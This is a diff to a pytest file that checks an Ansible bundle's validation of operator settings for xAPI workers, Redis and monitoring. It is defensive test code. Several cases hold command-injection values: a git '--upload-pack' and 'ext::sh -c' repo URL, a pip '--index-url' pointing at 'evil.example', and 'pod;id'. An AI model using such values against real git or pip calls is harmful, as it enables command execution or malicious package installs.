@@ -26,13 +26,56 @@ GOOD = {
 
 CASES = [
     # check_xapi's thresholds and the monitoring user (roles/xapi_ops, roles/xapi).
-    ("monitoring.yml", {"xapi_ops_check_thresholds": {"queue": [10, 5]}}, "wrong: queue"),
-    ("monitoring.yml", {"xapi_ops_check_thresholds": {"nodes": [0, 2]}}, "wrong: nodes"),
-    ("monitoring.yml", {"xapi_ops_check_thresholds": {"queue_len": [1, 2]}}, "wrong: queue_len"),
-    ("monitoring.yml", {"xapi_ops_check_thresholds": {"dead_new": ["1", "x"]}}, "wrong: dead_new"),
-    ("monitoring.yml", {"xapi_ops_check_thresholds": {"queue": 10}}, "wrong: queue"),
+    (
+        "monitoring.yml",
+        {"xapi_ops_check_thresholds": {"queue": [10, 5]}},
+        "xapi_ops_check_thresholds.queue is [10, 5]",
+    ),
+    (
+        "monitoring.yml",
+        {"xapi_ops_check_thresholds": {"nodes": [0, 2]}},
+        "xapi_ops_check_thresholds.nodes is [0, 2]",
+    ),
+    (
+        "monitoring.yml",
+        {"xapi_ops_check_thresholds": {"queue_len": [1, 2]}},
+        "xapi_ops_check_thresholds has queue_len",
+    ),
+    (
+        "monitoring.yml",
+        {"xapi_ops_check_thresholds": {"dead_new": ["1", "x"]}},
+        'xapi_ops_check_thresholds.dead_new is ["1", "x"]',
+    ),
+    (
+        "monitoring.yml",
+        {"xapi_ops_check_thresholds": {"queue": 10}},
+        "xapi_ops_check_thresholds.queue is 10",
+    ),
     ("monitoring.yml", {"xapi_broker_monitor_password": "short"}, "xapi_broker_monitor_password"),
     ("monitoring.yml", {"xapi_broker_monitor_user": "xapi"}, "xapi_broker_monitor_user"),
+    # The metrics writer's account (roles/xapi_ops): never one of the site's or the bundle's
+    # own, by name (whether it exists here or not), nor any existing account the role did not
+    # make (games: a system account of every Debian, standing in for a person's or a
+    # service's), refused before any change.
+    *(
+        (
+            "monitoring.yml",
+            {
+                "xapi_broker_monitor_password": "a-good-monitor-password",
+                "xapi_ops_metrics_user": user,
+            },
+            f'xapi_ops_metrics_user is "{user}": it must be an account of its own, none of the',
+        )
+        for user in ("root", "pod", "redis", "www-data", "xapi-worker", "nobody")
+    ),
+    (
+        "monitoring.yml",
+        {
+            "xapi_broker_monitor_password": "a-good-monitor-password",
+            "xapi_ops_metrics_user": "games",
+        },
+        "xapi_ops_metrics_user (games) names an existing account that this role did not make",
+    ),
     ("redis.yml", {"xapi_broker_db": "42"}, "xapi_broker_db"),
     ("redis.yml", {"redis_firewall_enabled": "maybe"}, "redis_firewall_enabled"),
     ("redis.yml", {"redis_maxmemory": "lots"}, "redis_maxmemory"),
@@ -86,6 +129,8 @@ CASES = [
     ),
     ("xapi_encodage.yml", {"xapi_encodage_spool_max_mb": -1}, "xapi_encodage_spool_max_mb"),
     ("xapi_encodage.yml", {"xapi_encodage_spool_max_mb": "lots"}, "xapi_encodage_spool_max_mb"),
+    # under four batches of the largest statements (104 MiB with batches of 100)
+    ("xapi_encodage.yml", {"xapi_encodage_spool_max_mb": 64}, "at least 104: four batches"),
     (
         "xapi_encodage.yml",
         {"xapi_encodage_dead_letter_retention_days": -3},
@@ -105,7 +150,7 @@ CASES = [
     (
         "xapi_encodage.yml",
         {"xapi_encodage_worker_watchdog_sec": 10},
-        "the watchdog 0 (none) or at least 45 s",
+        "xapi_encodage_worker_watchdog_sec is 10: the watchdog is 0 (none) or at least 45 s",
     ),
     (
         "xapi_frontal.yml",
@@ -152,6 +197,59 @@ CASES = [
         "xapi_encodage.yml",
         {"xapi_encodage_pod_version": "", "xapi_encodage_worker_ip_filter": False},
         "set xapi_encodage_pod_version to the Pod release your frontal runs",
+    ),
+    # Issue 32's review: `from` names where the checkout is (never a symbolic ref), and every
+    # operator value reaching git's or pip's command line is checked before any change.
+    (
+        "xapi_encodage.yml",
+        {
+            "xapi_encodage_pod_upgrade_from": "HEAD",
+            "xapi_encodage_pod_upgrade_to": "4.4.0",
+            "xapi_encodage_worker_ip_filter": False,
+        },
+        'xapi_encodage_pod_upgrade_from ("HEAD") is a symbolic ref',
+    ),
+    (
+        "xapi_encodage.yml",
+        {
+            "xapi_encodage_pod_repo": "--upload-pack=touch /tmp/pwned",
+            "xapi_encodage_worker_ip_filter": False,
+        },
+        'xapi_encodage_pod_repo ("--upload-pack=touch /tmp/pwned") must be',
+    ),
+    (
+        "xapi_encodage.yml",
+        {
+            "xapi_encodage_pod_repo": "ext::sh -c touch% /tmp/pwned",
+            "xapi_encodage_worker_ip_filter": False,
+        },
+        'xapi_encodage_pod_repo ("ext::sh -c touch% /tmp/pwned") must be',
+    ),
+    (
+        "xapi_encodage.yml",
+        {
+            "xapi_encodage_pod_python": "/usr/bin/python3 -c 'import os'",
+            "xapi_encodage_worker_ip_filter": False,
+        },
+        "xapi_encodage_pod_python",
+    ),
+    (
+        "xapi_encodage.yml",
+        {
+            "xapi_encodage_pod_constraints_dest": "/tmp/c.txt --index-url=http://evil.example/",
+            "xapi_encodage_worker_ip_filter": False,
+        },
+        "xapi_encodage_pod_constraints_dest",
+    ),
+    (
+        "xapi_frontal.yml",
+        {"xapi_frontal_venv": "home/pod/venv", "xapi_frontal_public_host": "pod.example.org"},
+        "xapi_frontal_venv must be an absolute path",
+    ),
+    (
+        "xapi_frontal.yml",
+        {"xapi_frontal_user": "pod;id", "xapi_frontal_public_host": "pod.example.org"},
+        'xapi_frontal_user ("pod;id")',
     ),
     # The frontal's public host name (roles/xapi_frontal): Pod would answer 200 and drop
     # every statement of a site reached by such a name (docs/upstream-facts.md §1.6).
@@ -229,7 +327,11 @@ CASES = [
         "none of EVAL/EVALSHA/SCRIPT",
     ),
     ("redis.yml", {"redis_xapi_producer_acl_commands": ["@all"]}, "plain command names"),
-    ("redis.yml", {"redis_xapi_producer_acl_keys": ["%W~xapi", "&*"]}, "the producer's keys start"),
+    (
+        "redis.yml",
+        {"redis_xapi_producer_acl_keys": ["%W~xapi", "&*"]},
+        'redis_xapi_producer_acl_keys has "&*": the producer',
+    ),
     # The move from Pod's Redis sends no password of the bundle's there (round two, finding 1).
     (
         "redis.yml",
@@ -242,6 +344,7 @@ CASES = [
         "redis_migrate_from_password is a bundle password",
     ),
     ("redis.yml", {"redis_migrate_from_user": "x on +@all"}, "redis_migrate_from_user"),
+    ("redis.yml", {"redis_migrate_from_unit": "redis-server"}, "redis_migrate_from_unit"),
     (
         "redis.yml",
         {
@@ -250,6 +353,132 @@ CASES = [
             ]
         },
         "ACL rules hold no line break",
+    ),
+]
+
+
+# Several rules broken at once: each is named on a line of its own, with its value (one rule
+# per check, the whole list in one failure, before any change).
+BROKEN_TOGETHER = [
+    (
+        "xapi_encodage.yml",
+        {
+            "xapi_encodage_worker_nodes": ["a b", "a b"],
+            "xapi_encodage_worker_concurrency": 0,
+            "xapi_encodage_worker_time_limit": 5,
+            "xapi_encodage_worker_prefetch_multiplier": 1,
+            "xapi_encodage_worker_settings": {"BAD": "1", "XAPI_WORKER_SPOOL_DIR": "/x"},
+            "xapi_encodage_spool_max_mb": -1,
+            "xapi_encodage_dead_letter_retention_days": -3,
+            "xapi_encodage_worker_watchdog_sec": 10,
+        },
+        [
+            'xapi_encodage_worker_nodes is ["a b", "a b"]: each name must be distinct',
+            '"a b", "a b" must be made of letters, digits',
+            "xapi_encodage_worker_concurrency is 0: it must be at least 1",
+            "xapi_encodage_worker_time_limit is 5: the bundled worker",
+            "xapi_encodage_worker_prefetch_multiplier is 1 (with "
+            "xapi_encodage_worker_concurrency 0)",
+            'xapi_encodage_worker_settings has the keys "BAD"',
+            "xapi_encodage_worker_settings has XAPI_WORKER_SPOOL_DIR: the spool",
+            "xapi_encodage_spool_max_mb is -1",
+            "xapi_encodage_dead_letter_retention_days is -3",
+            "xapi_encodage_worker_watchdog_sec is 10",
+        ],
+    ),
+    (
+        "xapi_encodage.yml",
+        {
+            "xapi_encodage_worker_app": "pod",
+            "xapi_encodage_with_pod": False,
+            "xapi_encodage_worker_settings": {"XAPI_WORKER_BATCH_SIZE": 10},
+            "xapi_encodage_service_manager": "sysv",
+            "xapi_broker_hosts": ["192.0.2.1", "192.0.2.2"],
+        },
+        [
+            "xapi_encodage_worker_settings is set (XAPI_WORKER_BATCH_SIZE) with "
+            "xapi_encodage_worker_app pod",
+            "xapi_encodage_with_pod is false on localhost",
+            "xapi_encodage_worker_app is pod and xapi_encodage_service_manager sysv, "
+            "with 2 brokers",
+        ],
+    ),
+    (
+        "xapi_encodage.yml",
+        {
+            "xapi_encodage_worker_user": "root",
+            "xapi_encodage_worker_group": "root",
+            "xapi_encodage_worker_venv": "opt/x",
+            "xapi_encodage_pod_group": "Pod!",
+        },
+        [
+            'xapi_encodage_worker_user is "root": the worker',
+            'xapi_encodage_worker_group is "root": the worker',
+            'xapi_encodage_worker_venv is "opt/x": it must be an absolute path',
+            'xapi_encodage_pod_group is "Pod!": user and group names must be system user names',
+        ],
+    ),
+    (
+        "redis.yml",
+        {
+            "xapi_broker_password": "short",
+            "xapi_broker_monitor_user": "xapi-producer",
+            "xapi_broker_tls": True,
+        },
+        [
+            "xapi_broker_password has 5 characters: it must have 12 at least",
+            'xapi_broker_monitor_user is "xapi-producer": it must differ',
+            'xapi_broker_tls_ca is "": xapi_broker_tls needs it',
+        ],
+    ),
+    (
+        "redis.yml",
+        {
+            "redis_default_password": "short",
+            "redis_xapi_monitor_acl_keys": ["~xapi"],
+            "redis_xapi_monitor_acl_commands": ["@read", "keys"],
+            "redis_acl_extra_users": [
+                {"name": "xapi", "password": "a" * 16, "rules": "+ping"},
+                {"name": "xapi", "password": "b" * 16, "rules": "+ping"},
+            ],
+        },
+        [
+            "redis_default_password has 5 characters",
+            'redis_xapi_monitor_acl_keys has "~xapi": the monitoring user',
+            'redis_xapi_monitor_acl_commands has "@read": the monitoring user',
+            "redis_xapi_monitor_acl_commands has keys: none of EVAL",
+            "redis_acl_extra_users names xapi: its users are neither",
+            'redis_acl_extra_users names ["xapi", "xapi"]: each name must be unique',
+        ],
+    ),
+    (
+        "monitoring.yml",
+        {
+            "xapi_ops_check_timeout": 0,
+            "xapi_ops_metrics_user": "root",
+            "xapi_ops_metrics_file": "/tmp/x.txt",
+            "xapi_ops_check_thresholds": {"queue": [10, 5], "bogus": [1, 2]},
+        },
+        [
+            "xapi_ops_check_timeout is 0: it must be a positive whole number",
+            'xapi_ops_metrics_user is "root": it must be an account of its own, none of the',
+            'xapi_ops_metrics_file is "/tmp/x.txt": it must be an absolute path',
+            "xapi_ops_check_thresholds.queue is [10, 5]: [warning, critical]",
+            "xapi_ops_check_thresholds has bogus: its metrics are among",
+        ],
+    ),
+    (
+        "xapi_frontal.yml",
+        {
+            "xapi_frontal_broker_timeout": 9,
+            "xapi_frontal_publish_retries": 7,
+            "xapi_frontal_use_xapi": False,
+        },
+        [
+            "xapi_frontal_broker_timeout is 9: it must be over 0 and at most 5 seconds",
+            "xapi_frontal_publish_retries is 7: it must be between 0 and 5",
+            "xapi_frontal_use_xapi_video is true and xapi_frontal_use_xapi false",
+        ],
     ),
 ]
 
@@ -324,3 +553,75 @@ def test_broker_without_firewall_is_warned_about(inventory: Path, tmp_path: Path
     _, output = check_run(inventory, tmp_path, "redis.yml", values)
     assert "WARNING: redis_firewall_enabled is false" in output, output[-2000:]
     assert "192.0.2.7" in output
+
+
+def test_public_host_without_pods_validator_is_not_silent(inventory: Path, tmp_path: Path) -> None:
+    """Pod's venv without email_validator (issue 32's review, gap 5): the frontal's check
+    passed in silence. It now says that only the bundle's own rule checked the name, and why.
+    A stand-in for Pod here: its tree, and a venv whose python (this machine's, which has no
+    email_validator) runs as this user (su: root to root)."""
+    pod, venv = tmp_path / "pod", tmp_path / "venv"
+    (pod / "pod" / "custom").mkdir(parents=True)
+    (pod / "manage.py").write_text("")
+    (venv / "bin").mkdir(parents=True)
+    (venv / "bin" / "python").symlink_to("/usr/bin/python3")
+    (venv / "bin" / "pip").write_text("")
+    assert subprocess.run(
+        ["/usr/bin/python3", "-c", "import email_validator"], check=False
+    ).returncode
+    values = {
+        **GOOD,
+        "xapi_frontal_public_host": "pod.univ.example.fr",
+        "xapi_frontal_pod_dir": str(pod),
+        "xapi_frontal_venv": str(venv),
+        "xapi_frontal_user": "root",
+        "xapi_frontal_preflight_broker": False,
+        "ansible_become_method": "su",
+    }
+    _, output = check_run(inventory, tmp_path, "xapi_frontal.yml", values)
+    assert "Check the public host name with the validator of Pod's venv" in output, output[-3000:]
+    flat = " ".join(output.replace("''", "'").split())
+    assert f"WARNING: Pod's venv {venv} on localhost has no email_validator" in flat, flat[-3000:]
+    assert "checked with the bundle's own rule only" in flat
+
+
+@pytest.mark.parametrize(("playbook", "bad", "named"), BROKEN_TOGETHER)
+def test_every_broken_rule_is_named_with_its_value(
+    inventory: Path, tmp_path: Path, playbook: str, bad: dict, named: list[str]
+) -> None:
+    returncode, output = check_run(inventory, tmp_path, playbook, {**GOOD, **bad})
+    assert returncode != 0, output[-3000:]
+    # The failure's list of messages, as the run prints it (its YAML wraps long lines).
+    flat = " ".join(output.split())
+    missing = [message for message in named if message not in flat]
+    assert not missing, f"{missing} not in:\n{output[-4000:]}"
+    assert "changed=0" in output, output[-3000:]
+
+
+@pytest.mark.skipif(os.getuid() != 0, reason="needs root (makes a system account)")
+@pytest.mark.parametrize("comment", ["xAPI metrics writer (esup.pod_xapi)", "", None])
+def test_the_roles_own_metrics_account_is_accepted(
+    inventory: Path, tmp_path: Path, comment: str | None
+) -> None:
+    """An account as roles/xapi_ops makes it (a system account with its comment, or none for
+    one made by an earlier release, nologin, its home the unit's state directory), or none yet
+    (``comment`` None: a new host), passes the check that refuses every other existing
+    account."""
+    name = f"xapi-m-{os.getpid()}"
+    if comment is not None:
+        home = ["--no-create-home", "--home-dir", "/var/lib/xapi-metrics"]
+        shell = ["--shell", "/usr/sbin/nologin", "--comment", comment]
+        subprocess.run(["useradd", "--system", *home, *shell, name], check=True)
+    try:
+        values = {
+            **GOOD,
+            "xapi_broker_monitor_password": "a-good-monitor-password",
+            "xapi_ops_metrics_user": name,
+        }
+        returncode, output = check_run(inventory, tmp_path, "monitoring.yml", values)
+    finally:
+        if comment is not None:
+            subprocess.run(["userdel", name], check=True)
+    assert "Check that an existing metrics user is the role's own" in output, output[-2000:]
+    assert "names an existing account" not in output, output[-2000:]
+    assert returncode == 0, output[-2000:]
